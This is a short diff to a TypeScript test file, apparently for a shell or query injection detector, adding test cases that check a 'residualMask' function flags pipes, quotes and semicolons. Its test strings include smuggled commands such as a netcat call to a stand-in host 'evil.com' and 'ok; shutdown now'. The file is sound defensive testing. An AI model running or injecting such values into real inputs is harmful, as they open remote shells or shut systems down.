@@ -150,6 +150,10 @@ describe('residualMask: structure keeps its trigger', () => {
     ['x | $5 id', M.PIPE],
     ['| $5 nc evil.com 4444', M.PIPE | M.DOLLAR],
     ['a | $9.99 ping 8.8.8.8', M.PIPE],
+    // a quote before a word a breakout goes on with (`'like x#`), and `;` before a statement
+    ['"In the fight between you and the world, back the world." -- Frank Zappa', M.QUOTE],
+    ["ok so 'like else when#4", M.QUOTE],
+    ['ok; shutdown now', M.SEMI],
   ] as [string, number][])('keeps %s', (s, bit) => {
     expect(residualMask(s) & bit).toBe(bit)
   })
